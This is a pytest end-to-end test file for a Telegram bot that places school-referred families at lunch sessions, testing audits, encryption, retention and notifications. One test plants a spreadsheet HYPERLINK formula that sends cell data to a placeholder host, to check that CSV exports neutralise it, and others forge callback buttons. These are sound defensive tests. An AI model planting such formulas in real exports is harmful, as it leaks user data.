"""Referrals from the coordinators' side: a new referral arrives without details, is opened
(audited), placed where there is room, the school is told at every step, the site lead sees
the register with allergies flagged, and the details are gone after the retention period."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import UTC, date, datetime, time
from pathlib import Path

import pytest

from bot.config import Config
from bot.harness import Clock, Rehearsal
from handlers import callbacks
from handlers.planning_locations import ArchiveAndCancel
from storage import audit, invites, locations, referrals, rota
from storage.errors import AlreadyDone
from storage.referrals import ReferralForm
from tests.conftest import RACHEL
from tests.e2e.test_joining import register
from tests.support import register_by_invite

OKAFOR, BROOK, SAM = 2001, 2002, 3001
ALLERGY = "Child 2: severe peanut allergy (EpiPen in bag)"


async def contact(bot: Rehearsal, telegram_id: int, school: str) -> None:
    db, now = bot.services.db, bot.services.now()
    await register_by_invite(
        db,
        now,
        telegram_id=telegram_id,
        name=school,
        role=invites.Role.SCHOOL_CONTACT,
        by=RACHEL,
        school_name=school,
    )


async def lunches(bot: Rehearsal, location_id: int, *days: date) -> list[rota.SessionView]:
    """Lunch sessions at a location, 11:30-13:30 on each of those days."""
    made = []
    for day in days:
        plan = rota.SessionPlan(
            location_id=location_id,
            first_day=day,
            last_day=day,
            weekdays=frozenset({day.weekday()}),
            start=time(11, 30),
            end=time(13, 30),
            jobs=(rota.JobSpec(job="server", places=2),),
        )
        await rota.create_sessions(
            bot.services.db,
            actor_telegram_id=RACHEL,
            plan=plan,
            tz=bot.services.settings.timezone,
            now=bot.services.now(),
        )
        made += [
            site.session
            for site in await rota.sessions_on(
                bot.services.db,
                actor_telegram_id=RACHEL,
                location_id=location_id,
                day=day,
                tz=bot.services.settings.timezone,
            )
        ]
    return made


async def referred(bot: Rehearsal) -> int:
    """Rachel, St Mark's (room for 30 a day, lunch on Tue 28 and Thu 30 July: it runs one
    week), Mr Okafor at Hillside with HS-014 sent (Tue & Thu, 28 Jul-27 Aug)."""
    await register(bot, RACHEL, "Rachel")
    db, now = bot.services.db, bot.services.now()
    location = await locations.create(db, actor_telegram_id=RACHEL, name="St Mark's", now=now)
    await locations.update_field(
        db,
        actor_telegram_id=RACHEL,
        location_id=location.location_id,
        field=locations.Field.CAPACITY,
        value=30,
        now=now,
    )
    await lunches(bot, location.location_id, date(2026, 7, 28), date(2026, 7, 30))
    await contact(bot, OKAFOR, "Hillside Primary")
    cipher = bot.services.cipher
    assert cipher is not None
    sent = await referrals.submit(
        db,
        cipher,
        telegram_id=OKAFOR,
        now=now,
        daily_limit=10,
        form=ReferralForm(
            reference="HS-014",
            children=2,
            age_bands=("Year 2", "Year 5"),
            needs=ALLERGY,
            note=None,
            preferred_location_ids=(location.location_id,),
            first_day=date(2026, 7, 28),
            last_day=date(2026, 8, 27),
            weekdays=(1, 3),
            consent=True,
        ),
    )
    await bot.deliver()
    return sent.referral_id


async def test_a_referral_goes_from_submission_to_placement_to_attendance(
    bot: Rehearsal, clock: Clock
) -> None:
    await referred(bot)
    rachel, okafor = bot.user(RACHEL, "Rachel"), bot.user(OKAFOR, "Mr Okafor")
    assert (
        rachel.last.text == "📥 A new referral from Hillside Primary: 2 children. Open it "
        "below, or see them all with /referrals."
    )

    await rachel.send("/referrals")
    assert "• New (1)" in rachel.last.labels()
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    assert f"⚠️ Needs and allergies: {ALLERGY}" in rachel.last.text
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's · 2 of 10 days")
    # Only the days a lunch runs can be chosen: the rest of the asked days are named.
    offer = rachel.last.text
    assert "✅ A lunch with room: Tue 28 Jul and Thu 30 Jul" in offer
    assert "✖ No lunch there: Tue 4 Aug, Thu 6 Aug" in offer
    assert rachel.last.labels() == [
        "✅ Place on 2 days",
        "📅 Other dates",
        "« Back",
        "✖ Cancel",
    ]
    await rachel.tap("✅ Place on 2 days")
    assert rachel.last.text.startswith(
        "✅ Placed on 2 days: Tue 28 Jul and Thu 30 Jul. The school has been told these dates."
        " Not on the other 8 days asked for"
    )
    assert okafor.last.text == (
        "📬 Referral HS-014: placed at St Mark's on Tue 28 Jul and Thu 30 Jul."
    )
    # Notifications never carry the needs: only screens opened on purpose (and audited) do.
    assert not any(ALLERGY in m.text for m in okafor.bot_messages)

    clock.now = datetime(2026, 7, 28, 7, 0, tzinfo=UTC)
    await rachel.send("/register")
    assert "St Mark's</b>" not in rachel.last.text  # HTML is rendered, not shown
    assert "1 family, 2 children" in rachel.last.text
    assert f"⚠️ {ALLERGY}" in rachel.last.text
    await rachel.tap("HS-014")
    assert "✅ HS-014 (Hillside Primary)" in rachel.last.text
    views = await audit.recent(bot.services.db, action="register.viewed")
    assert len(views) == 2


async def test_declining_tells_the_school_without_the_reason(bot: Rehearsal) -> None:
    await referred(bot)
    rachel, okafor = bot.user(RACHEL, "Rachel"), bot.user(OKAFOR, "Mr Okafor")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("✖ Can't place")
    await rachel.send("Family moved out of the area")
    assert rachel.last.text.startswith("Not placed. The school has been told")
    assert "Reason given: Family moved out of the area" in rachel.last.text
    assert okafor.last.text == (
        "📬 Referral HS-014: not placed this time, sorry. A coordinator can tell you more."
    )


async def test_strangers_cannot_open_a_referral_and_are_audited(bot: Rehearsal) -> None:
    referral_id = await referred(bot)
    await register(bot, SAM, "Sam")
    await contact(bot, BROOK, "Brook Lane")
    sam, brook = bot.user(SAM, "Sam"), bot.user(BROOK, "Brook Lane")
    await brook.send("/whoami")
    await sam.tap_data(f"to:{referral_id}")
    assert "only for coordinators" in sam.last.text
    await brook.tap_data(f"to:{referral_id}")
    assert "only for coordinators" in brook.last.text
    await brook.send("/referrals")
    refusals = await audit.recent(bot.services.db, action="access.refused")
    assert len(refusals) == 3
    assert await audit.recent(bot.services.db, action="referral.viewed") == []


async def test_the_database_file_never_holds_the_allergy_in_clear(
    bot: Rehearsal, config: Config
) -> None:
    await referred(bot)
    if not config.database.url.startswith("sqlite"):
        return  # the PostgreSQL files are the server's; the storage tests read its rows
    path = Path(config.database.url.split("///", 1)[1])
    on_disk = b"".join(p.read_bytes() for p in path.parent.glob(path.name + "*"))
    assert b"peanut" not in on_disk
    assert b"HS-014" in on_disk  # the reference is the school's pseudonym, kept in clear


async def test_after_the_retention_period_the_details_are_gone_and_the_counts_stay(
    bot: Rehearsal, clock: Clock
) -> None:
    await referred(bot)
    rachel = bot.user(RACHEL, "Rachel")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's · 2 of 10 days")
    await rachel.tap("✅ Place on 2 days")
    clock.now = datetime(2026, 9, 29, 9, 0, tzinfo=UTC)  # 61 days after Thu 30 July
    await bot.deliver()
    await rachel.send("/referrals")
    await rachel.tap("• New (0)")
    await rachel.tap("Placed (1)")
    await rachel.tap("(removed) · Hillside Primary · 2 children")
    assert "Its details were removed after the retention period" in rachel.last.text
    assert ALLERGY not in rachel.last.text


async def test_the_morning_list_counts_the_families_without_their_details(
    bot: Rehearsal, clock: Clock
) -> None:
    referral_id = await referred(bot)
    db, now = bot.services.db, bot.services.now()
    st_marks = (await locations.listed(db))[0]
    await referrals.place(
        db,
        telegram_id=RACHEL,
        referral_id=referral_id,
        version=0,
        location_id=st_marks.location_id,
        first_day=date(2026, 7, 28),
        last_day=date(2026, 8, 27),
        weekdays=(1, 3),
        tz=bot.services.settings.timezone,
        now=now,
    )
    clock.now = datetime(2026, 7, 28, 7, 0, tzinfo=UTC)  # 08:00 in London
    await bot.deliver()
    rachel = bot.user(RACHEL, "Rachel")
    morning = next(m for m in rachel.bot_messages if m.text.startswith("☀️"))
    assert (
        "👨‍👩‍👧 1 placed family (2 children; ⚠️ 1 with allergies or dietary needs): /register"
    ) in morning.text
    assert "peanut" not in morning.text


async def test_a_placement_can_start_later_than_asked_and_be_changed(bot: Rehearsal) -> None:
    await referred(bot)
    st_marks = (await locations.listed(bot.services.db))[0].location_id
    await lunches(bot, st_marks, date(2026, 8, 4), date(2026, 8, 5), date(2026, 8, 6))
    rachel, okafor = bot.user(RACHEL, "Rachel"), bot.user(OKAFOR, "Mr Okafor")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's · 4 of 10 days")
    await rachel.tap("📅 Other dates")
    await rachel.send("sometime soon")
    assert rachel.last.text.startswith("Please send two dates")
    await rachel.send("04/08/2026 - 27/08/2026")
    # The typed dates are shown first: the Tuesday and Thursday with a lunch, not Wednesday.
    assert "✅ A lunch with room: Tue 4 Aug and Thu 6 Aug" in rachel.last.text
    await rachel.tap("✅ Place on 2 days")
    assert rachel.last.text.startswith("✅ Placed on 2 days: Tue 4 Aug and Thu 6 Aug.")
    assert okafor.last.text.endswith("placed at St Mark's on Tue 4 Aug and Thu 6 Aug.")
    await rachel.tap("⏳ Waiting list")
    assert okafor.last.text == (
        "📬 Referral HS-014: on the waiting list: we'll tell you as soon as there is room."
    )


async def test_exports_of_a_school_and_a_location_are_audited(bot: Rehearsal) -> None:
    await referred(bot)
    rachel = bot.user(RACHEL, "Rachel")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📄 School's CSV")
    school_csv = rachel.last
    assert school_csv.filename == "referrals-Hillside-Primary.csv"
    assert school_csv.document is not None
    assert ALLERGY.encode() in school_csv.document
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's · 2 of 10 days")
    await rachel.tap("✅ Place on 2 days")
    await rachel.tap("📄 Location's CSV")
    assert rachel.last.filename == "referrals-St-Mark-s.csv"
    exports = await audit.recent(bot.services.db, action="referrals.exported")
    assert len(exports) == 2


async def test_the_exported_csv_opens_in_a_spreadsheet_as_words_and_runs_no_formula(
    bot: Rehearsal,
) -> None:
    """Needs typed as a formula, and a note over several lines: the file starts with the
    byte-order mark (Excel reads it as UTF-8), the formula is shown, not run, the weekdays are
    named and the caption counts referrals, not lines."""
    await referred(bot)
    db, now, cipher = bot.services.db, bot.services.now(), bot.services.cipher
    assert cipher is not None
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Zoë: peanuts")'
    await referrals.submit(
        db,
        cipher,
        telegram_id=OKAFOR,
        now=now,
        daily_limit=10,
        form=ReferralForm(
            reference="HS-015",
            children=1,
            age_bands=("Year 1",),
            needs=formula,
            note="-1 child today\n+1 next week",
            preferred_location_ids=(),
            first_day=date(2026, 7, 28),
            last_day=date(2026, 8, 27),
            weekdays=(1, 3),
            consent=True,
        ),
    )
    rachel = bot.user(RACHEL, "Rachel")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's · 2 of 10 days")
    await rachel.tap("✅ Place on 2 days")
    await rachel.send("/referrals")
    await rachel.tap("HS-015 · Hillside Primary · 1 child")
    await rachel.tap("📄 School's CSV")
    assert rachel.last.text.startswith("📄 2 referrals, with their details.")
    data = rachel.last.document
    assert data is not None and data.startswith(codecs.BOM_UTF8)
    rows = {row["reference"]: row for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
    assert rows["HS-015"]["needs"] == "'" + formula
    assert rows["HS-015"]["note"] == "'-1 child today\n+1 next week"
    assert rows["HS-014"]["weekdays"] == "Tue Thu"
    # Placed on the two days St Mark's runs a lunch: the file says those, not the asked span.
    assert (rows["HS-014"]["from"], rows["HS-014"]["to"]) == ("2026-07-28", "2026-07-30")
    assert rows["HS-015"]["weekdays"] == ""


async def test_a_coordinator_registers_a_partner_school_with_its_area(bot: Rehearsal) -> None:
    await register(bot, RACHEL, "Rachel")
    rachel = bot.user(RACHEL, "Rachel")
    await rachel.send("/schools")
    assert "No partner schools yet" in rachel.last.text
    await rachel.tap("➕ Add a school")
    await rachel.send("Hillside Primary")
    assert "Which area is the school in" in rachel.last.text
    await rachel.send("Northfield")
    assert "Area: Northfield" in rachel.last.text
    await rachel.tap("✉️ Invite a contact")
    # The link, and the school's card still there under it: to invite another, or carry on.
    link, card = rachel.bot_messages[-2:]
    assert "one-time invite link for a contact at Hillside Primary" in link.text
    assert card.text.startswith("Hillside Primary\nArea: Northfield")
    assert card.labels() == ["✏️ Area", "✉️ Invite a contact", "« Schools"]
    await rachel.tap("✉️ Invite a contact", message=card)
    second, card = rachel.bot_messages[-2:]
    assert "one-time invite link for a contact at Hillside Primary" in second.text
    assert link.text != second.text  # a second contact gets a link of their own
    assert "one-time invite link" in link.text  # and the first is still on screen
    assert card.labels() == ["✏️ Area", "✉️ Invite a contact", "« Schools"]
    await rachel.send("/schools")
    assert "• Hillside Primary (Northfield): 0 contacts, 0 referred" in rachel.last.text


async def test_a_family_cannot_be_placed_where_no_lunch_runs_on_the_days_asked(
    bot: Rehearsal, clock: Clock
) -> None:
    referral_id = await referred(bot)
    db, now = bot.services.db, bot.services.now()
    riverside = await locations.create(db, actor_telegram_id=RACHEL, name="Riverside", now=now)
    await lunches(bot, riverside.location_id, date(2026, 7, 29))  # a Wednesday only
    rachel, okafor = bot.user(RACHEL, "Rachel"), bot.user(OKAFOR, "Mr Okafor")
    told_before = len(okafor.bot_messages)

    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📍 Place")
    assert rachel.last.labels() == [
        "★ St Mark's · 2 of 10 days",
        "Riverside · no day free",
        "« Back",
        "✖ Cancel",
    ]
    await rachel.tap("Riverside · no day free")
    assert "✖ No lunch there: Tue 28 Jul, Thu 30 Jul, Tue 4 Aug" in rachel.last.text
    assert "There is no day to place them on here" in rachel.last.text
    assert rachel.last.labels() == ["📅 Other dates", "« Back", "✖ Cancel"]  # nothing to place on

    # Typed dates with no lunch on them cannot place the family either.
    await rachel.tap("📅 Other dates")
    await rachel.send("11/08/2026 - 20/08/2026")
    assert "There is no day to place them on here" in rachel.last.text
    assert rachel.last.labels() == ["📅 Other dates", "« Back", "✖ Cancel"]

    # Nor can a forged or old button: storage checks the sessions itself.
    await rachel.tap_data(f"tc:{referral_id}:0:{riverside.location_id}:20260728:20260827")
    assert "Riverside runs no lunch on any of the days asked for" in rachel.last.text
    assert "nothing was changed" in rachel.last.text
    [still] = await referrals.for_school(db, telegram_id=OKAFOR)
    assert still.status is referrals.ReferralStatus.SUBMITTED
    await bot.settle()
    assert len(okafor.bot_messages) == told_before  # the school was told nothing


async def test_a_forged_placement_button_with_dates_far_away_places_only_on_real_lunches(
    bot: Rehearsal,
) -> None:
    """A tampered client sends Confirm placement with dates from 0001 to 9999: storage looks
    only at the planning window, so no internal error, and the family is placed (and the
    school told) only on the lunches that really run."""
    await referred(bot)
    db, now, cipher = bot.services.db, bot.services.now(), bot.services.cipher
    assert cipher is not None
    [location] = await locations.listed(db)
    # Asked for Tuesdays to Fridays: the calendar's last day, Fri 31 Dec 9999, is one of them.
    sent = await referrals.submit(
        db,
        cipher,
        telegram_id=OKAFOR,
        now=now,
        daily_limit=10,
        form=ReferralForm(
            reference="HS-015",
            children=1,
            age_bands=("Year 3",),
            needs=None,
            note=None,
            preferred_location_ids=(),
            first_day=date(2026, 7, 28),
            last_day=date(2026, 7, 31),
            weekdays=(1, 2, 3, 4),
            consent=True,
        ),
    )
    referral_id = sent.referral_id
    rachel, okafor = bot.user(RACHEL, "Rachel"), bot.user(OKAFOR, "Mr Okafor")
    await rachel.send("/referrals")
    await rachel.tap("HS-015 · Hillside Primary · 1 child")
    await rachel.tap("📍 Place")  # the placing form is open: only the dates are forged
    await rachel.tap_data(f"tc:{referral_id}:0:{location.location_id}:10101:99991231")
    assert "Sorry, something went wrong" not in rachel.last.text
    assert rachel.last.text.startswith(
        "✅ Placed on 2 days: Tue 28 Jul and Thu 30 Jul. The school has been told these dates."
    )
    await bot.settle()
    assert okafor.last.text == (
        "📬 Referral HS-015: placed at St Mark's on Tue 28 Jul and Thu 30 Jul."
    )


async def test_the_school_is_told_every_date_of_a_long_placement(bot: Rehearsal) -> None:
    """A family placed on all 23 weekdays from 28 Jul to 27 Aug: the school is told every one
    of them (grouped by month), not the first eleven and "and 12 more"."""
    await register(bot, RACHEL, "Rachel")
    db, now, cipher = bot.services.db, bot.services.now(), bot.services.cipher
    assert cipher is not None
    hall = await locations.create(db, actor_telegram_id=RACHEL, name="St Mark's", now=now)
    await rota.create_sessions(
        db,
        actor_telegram_id=RACHEL,
        plan=rota.SessionPlan(
            location_id=hall.location_id,
            first_day=date(2026, 7, 27),
            last_day=date(2026, 8, 28),
            weekdays=frozenset({0, 1, 2, 3, 4}),
            start=time(11, 30),
            end=time(13, 30),
            jobs=(rota.JobSpec(job="server", places=2),),
        ),
        tz=bot.services.settings.timezone,
        now=now,
    )
    await contact(bot, OKAFOR, "Hillside Primary")
    await referrals.submit(
        db,
        cipher,
        telegram_id=OKAFOR,
        now=now,
        daily_limit=10,
        form=ReferralForm(
            reference="HS-020",
            children=1,
            age_bands=("Year 4",),
            needs=None,
            note=None,
            preferred_location_ids=(hall.location_id,),
            first_day=date(2026, 7, 28),
            last_day=date(2026, 8, 27),
            weekdays=(0, 1, 2, 3, 4),
            consent=True,
        ),
    )
    await bot.deliver()
    rachel, okafor = bot.user(RACHEL, "Rachel"), bot.user(OKAFOR, "Mr Okafor")
    await rachel.send("/referrals")
    await rachel.tap("HS-020 · Hillside Primary · 1 child")
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's · 23 of 23 days")
    await rachel.tap("✅ Place on 23 days")
    every_day = (
        "23 days (Jul: Tue 28, Wed 29, Thu 30, Fri 31; Aug: Mon 3, Tue 4, Wed 5, Thu 6, Fri 7, "
        "Mon 10, Tue 11, Wed 12, Thu 13, Fri 14, Mon 17, Tue 18, Wed 19, Thu 20, Fri 21, "
        "Mon 24, Tue 25, Wed 26, Thu 27)"
    )
    assert rachel.last.text.startswith(
        "✅ Placed on 23 days: from Tue 28 Jul to Thu 27 Aug 2026, each listed below."
    )
    assert f"placed at St Mark's on {every_day}" in rachel.last.text
    await bot.settle()
    assert okafor.last.text == f"📬 Referral HS-020: placed at St Mark's on {every_day}."


async def test_a_full_lunch_is_shown_and_left_out_of_a_placement(
    bot: Rehearsal, clock: Clock
) -> None:
    await referred(bot)
    db, now = bot.services.db, bot.services.now()
    st_marks = (await locations.listed(db))[0]
    await locations.update_field(
        db,
        actor_telegram_id=RACHEL,
        location_id=st_marks.location_id,
        field=locations.Field.CAPACITY,
        value=2,
        now=now,
    )
    cipher = bot.services.cipher
    assert cipher is not None
    other = await referrals.submit(
        db,
        cipher,
        telegram_id=OKAFOR,
        now=now,
        daily_limit=10,
        form=ReferralForm(
            reference="HS-015",
            children=1,
            age_bands=("Year 1",),
            needs=None,
            note=None,
            preferred_location_ids=(),
            first_day=date(2026, 7, 30),
            last_day=date(2026, 7, 30),
            weekdays=(3,),
            consent=True,
        ),
    )
    placed = await referrals.place(
        db,
        telegram_id=RACHEL,
        referral_id=other.referral_id,
        version=0,
        location_id=st_marks.location_id,
        first_day=date(2026, 7, 30),
        last_day=date(2026, 7, 30),
        weekdays=(3,),
        tz=bot.services.settings.timezone,
        now=now,
    )
    assert placed.decision is referrals.Decision.DONE
    rachel = bot.user(RACHEL, "Rachel")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's · 1 of 10 days")
    assert "✅ A lunch with room: Tue 28 Jul" in rachel.last.text
    assert "⛔ Full (its daily capacity): Thu 30 Jul" in rachel.last.text
    await rachel.tap("✅ Place on 1 day")
    assert rachel.last.text.startswith("✅ Placed on 1 day: Tue 28 Jul.")


async def placed_with_a_volunteer(bot: Rehearsal) -> None:
    """HS-014 placed at St Mark's on Tue 28 and Thu 30 July through the placing screen, and
    Sam booked to serve on the Tuesday."""
    await referred(bot)
    rachel = bot.user(RACHEL, "Rachel")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📍 Place")
    await rachel.tap("★ St Mark's · 2 of 10 days")
    await rachel.tap("✅ Place on 2 days")
    await register(bot, SAM, "Sam")
    st_marks = (await locations.listed(bot.services.db))[0].location_id
    [tuesday, _] = await lunches(bot, st_marks, date(2026, 7, 28), date(2026, 7, 30))
    booked = await rota.book(
        bot.services.db,
        telegram_id=SAM,
        job_id=tuesday.jobs[0].job_id,
        now=bot.services.now(),
        waitlist=False,
    )
    assert booked.booking is not None
    await bot.settle()


async def test_cancelling_and_moving_a_session_tell_the_placed_familys_school(
    bot: Rehearsal, clock: Clock
) -> None:
    await placed_with_a_volunteer(bot)
    rachel, okafor = bot.user(RACHEL, "Rachel"), bot.user(OKAFOR, "Mr Okafor")

    clock.now = datetime(2026, 7, 28, 7, 0, tzinfo=UTC)  # 08:00 on Tuesday
    await rachel.send("/today")
    await rachel.tap("⚙️ Change or cancel session")
    await rachel.tap("Cancel session")
    # Before confirming, Rachel sees who is affected: the family too, not "nobody".
    assert rachel.last.text == (
        "Cancel the lunch session at St Mark's, Tue 28 Jul, 11:30-13:30? 1 volunteer and "
        "1 placed family (2 children) will be told (each family through its school, never "
        "with its needs). The families leave that day's register; a family with no lunch "
        "left goes back on the referrals waiting list."
    )
    await rachel.tap("Yes, cancel the session")
    assert rachel.last.text.startswith(
        "Cancelled. I'm telling the 1 volunteer who signed up for it and the schools of the "
        "1 placed family (2 children)."
    )
    await bot.settle()
    assert okafor.last.text == (
        "📬 Referral HS-014: the lunch at St Mark's on Tue 28 Jul is cancelled, so the family "
        "has no place that day. Still placed at St Mark's on Thu 30 Jul."
    )
    assert not any("peanut" in m.text for m in okafor.bot_messages)
    await rachel.send("/register")
    assert "no families placed today" in rachel.last.text

    # Thursday's lunch moves: the school hears the new times.
    clock.now = datetime(2026, 7, 30, 7, 0, tzinfo=UTC)
    await rachel.send("/today")
    await rachel.tap("⚙️ Change or cancel session")
    await rachel.tap("Change times")
    assert "1 placed family (2 children) will be told" in rachel.last.text
    await rachel.send("12:00-14:00")
    assert "the schools of the 1 placed family (2 children)" in rachel.last.text
    await bot.settle()
    assert okafor.last.text == (
        "📬 Referral HS-014: the lunch at St Mark's on Thu 30 Jul, 12:00-14:00 has new times. "
        "The family keeps its place that day."
    )

    # Then it is cancelled too: no lunch is left, so the family waits for another place.
    await rachel.tap("Cancel session")
    await rachel.tap("Yes, cancel the session")
    await bot.settle()
    assert okafor.last.text == (
        "📬 Referral HS-014: the lunch at St Mark's on Thu 30 Jul is cancelled, so the family "
        "has no place that day. No lunch day is left for them, so the referral is back on the "
        "waiting list: we'll tell you as soon as there is room."
    )
    await rachel.send("/referrals")
    assert "Waiting list (1)" in rachel.last.labels()
    await rachel.send("/register")
    assert "no families placed today" in rachel.last.text


async def test_archiving_a_location_cancels_its_lunches_and_tells_everyone_once(
    bot: Rehearsal, clock: Clock
) -> None:
    await placed_with_a_volunteer(bot)
    rachel, okafor = bot.user(RACHEL, "Rachel"), bot.user(OKAFOR, "Mr Okafor")
    sam = bot.user(SAM, "Sam")
    await rachel.send("/locations")
    await rachel.tap("St Mark's")
    await rachel.tap("🗄 Archive")
    assert rachel.last.text == (
        "Archive St Mark's? It still has 2 sessions to come: archiving cancels them all. "
        "1 volunteer and 1 placed family (2 children) will be told (each family through its "
        "school, never with its needs)."
    )
    assert not (await locations.listed(bot.services.db, include_archived=True))[0].archived
    await rachel.tap("🗄 Cancel 2 sessions and archive")
    assert rachel.last.text.startswith("Archived: it keeps its history")
    assert (
        "I'm telling the 1 volunteer who signed up for it and the schools of the 1 placed "
        "family (2 children)."
    ) in rachel.last.text
    assert (await locations.listed(bot.services.db, include_archived=True))[0].archived
    await bot.settle()
    school = [m.text for m in okafor.bot_messages if "cancelled" in m.text]
    assert school == [
        "📬 Referral HS-014: the lunch at St Mark's on Tue 28 Jul and Thu 30 Jul are "
        "cancelled, so the family has no place those days. No lunch day is left for them, so "
        "the referral is back on the waiting list: we'll tell you as soon as there is room."
    ]
    assert sam.last.text.startswith("Sorry: the lunch session at St Mark's, Tue 28 Jul")


async def test_a_second_tap_on_archive_says_it_was_already_done(bot: Rehearsal) -> None:
    """Two taps on "Cancel 2 sessions and archive" (both sent before the screen changed): the
    second says it was already done, not that nobody was booked and nobody needs telling."""
    await placed_with_a_volunteer(bot)
    rachel = bot.user(RACHEL, "Rachel")
    st_marks = (await locations.listed(bot.services.db))[0].location_id
    await rachel.send("/locations")
    await rachel.tap("St Mark's")
    await rachel.tap("🗄 Archive")
    confirm = rachel.last
    await rachel.tap("🗄 Cancel 2 sessions and archive")
    assert "I'm telling the 1 volunteer who signed up for it" in rachel.last.text
    await rachel.tap_data(
        callbacks.encode(ArchiveAndCancel(location_id=st_marks)), message_id=confirm.message_id
    )
    assert "nobody needs telling" not in rachel.last.text
    # The first tap closed the archiving form, so the second is told so; two taps handled at
    # the same moment meet storage's AlreadyDone instead, which says the same kindly.
    assert rachel.last.text.startswith("This form (archiving the location) is closed")
    with pytest.raises(AlreadyDone):
        await rota.archive_location(
            bot.services.db, actor_telegram_id=RACHEL, location_id=st_marks, now=bot.services.now()
        )


async def test_archiving_counts_and_tells_a_volunteer_on_several_sessions_once(
    bot: Rehearsal,
) -> None:
    """Sam serves on both St Mark's lunches: archiving it says one volunteer will be told, and
    Sam gets one notice naming both sessions, not one per session."""
    await placed_with_a_volunteer(bot)
    st_marks = (await locations.listed(bot.services.db))[0].location_id
    thursday = (
        await rota.sessions_on(
            bot.services.db,
            actor_telegram_id=RACHEL,
            location_id=st_marks,
            day=date(2026, 7, 30),
            tz=bot.services.settings.timezone,
        )
    )[0].session
    booked = await rota.book(
        bot.services.db,
        telegram_id=SAM,
        job_id=thursday.jobs[0].job_id,
        now=bot.services.now(),
        waitlist=False,
    )
    assert booked.booking is not None
    await bot.settle()
    rachel, sam = bot.user(RACHEL, "Rachel"), bot.user(SAM, "Sam")
    before = len(sam.bot_messages)
    await rachel.send("/locations")
    await rachel.tap("St Mark's")
    await rachel.tap("🗄 Archive")
    assert "1 volunteer and 1 placed family (2 children) will be told" in rachel.last.text
    await rachel.tap("🗄 Cancel 2 sessions and archive")
    assert "I'm telling the 1 volunteer who signed up for it" in rachel.last.text
    await bot.settle()
    told = [m.text for m in sam.bot_messages[before:]]
    assert told == [
        "Sorry: these 2 lunch sessions at St Mark's are cancelled:\n"
        "• Tue 28 Jul, 11:30-13:30\n"
        "• Thu 30 Jul, 11:30-13:30\n"
        "You don't need to do anything; thank you for offering your time."
    ]


async def test_many_locations_are_offered_a_page_at_a_time(bot: Rehearsal) -> None:
    await referred(bot)
    db, now = bot.services.db, bot.services.now()
    for n in range(12):
        await locations.create(db, actor_telegram_id=RACHEL, name=f"Hall {n:02}", now=now)
    rachel = bot.user(RACHEL, "Rachel")
    await rachel.send("/referrals")
    await rachel.tap("HS-014 · Hillside Primary · 2 children")
    await rachel.tap("📍 Place")
    first = rachel.last.labels()
    # The location with lunch on the days asked comes first; 8 to a page.
    assert first[0] == "★ St Mark's · 2 of 10 days"
    assert len(first) == 8 + 3 and first[-3:] == ["Next ▶", "« Back", "✖ Cancel"]
    await rachel.tap("Next ▶")
    assert rachel.last.labels() == [
        *(f"Hall {n:02} · no day free" for n in range(7, 12)),
        "◀ Previous",
        "« Back",
        "✖ Cancel",
    ]
    # Typing part of a name finds it among them all (a search of the list on screen).
    await rachel.send("hall 1")
    assert rachel.last.labels() == [
        "Hall 10 · no day free",
        "Hall 11 · no day free",
        "✖ Clear search",
        "« Back",
        "✖ Cancel",
    ]


async def test_a_long_register_is_shown_a_page_at_a_time_with_every_need_in_full(
    bot: Rehearsal, clock: Clock
) -> None:
    """25 families placed at a location with no daily capacity, each with a long allergy note:
    one message would pass Telegram's 4096 characters and be refused, so the one screen that
    flags allergies would not appear. It comes a page at a time, every need in full."""
    await register(bot, RACHEL, "Rachel")
    db, now = bot.services.db, bot.services.now()
    hall = await locations.create(db, actor_telegram_id=RACHEL, name="St Mark's", now=now)
    tuesday = date(2026, 7, 28)
    await lunches(bot, hall.location_id, tuesday)
    await contact(bot, OKAFOR, "Hillside Primary")
    cipher = bot.services.cipher
    assert cipher is not None
    families = 25

    def needs(n: int) -> str:
        note = f"Family {n:02}: severe peanut & sesame allergy, EpiPen in the bag. "
        return (note * 20)[: referrals.NEEDS_MAX - 4] + f"#{n:02}."

    for n in range(families):
        sent = await referrals.submit(
            db,
            cipher,
            telegram_id=OKAFOR,
            now=now,
            daily_limit=100,
            form=ReferralForm(
                reference=f"HS-{n:03}",
                children=1,
                age_bands=("Year 2",),
                needs=needs(n),
                note=None,
                preferred_location_ids=(hall.location_id,),
                first_day=tuesday,
                last_day=tuesday,
                weekdays=(tuesday.weekday(),),
                consent=True,
            ),
        )
        outcome = await referrals.place(
            db,
            telegram_id=RACHEL,
            referral_id=sent.referral_id,
            version=sent.version,
            location_id=hall.location_id,
            first_day=tuesday,
            last_day=tuesday,
            weekdays=(tuesday.weekday(),),
            tz=bot.services.settings.timezone,
            now=now,
        )
        assert outcome.decision is referrals.Decision.DONE

    clock.now = datetime(2026, 7, 28, 7, 0, tzinfo=UTC)
    rachel = bot.user(RACHEL, "Rachel")
    await rachel.send("/register")
    seen: dict[str, str] = {}
    pages = 0
    while True:
        screen = rachel.last
        pages += 1
        assert "25 families, 25 children" in screen.text
        assert len(screen.text) <= 4096 and len(screen.labels()) <= 21
        family_buttons = [label for label in screen.labels() if label.startswith("HS-")]
        for label in family_buttons:
            seen[label] = screen.text
        if "Next ▶" not in screen.labels():
            break
        await rachel.tap("Next ▶")
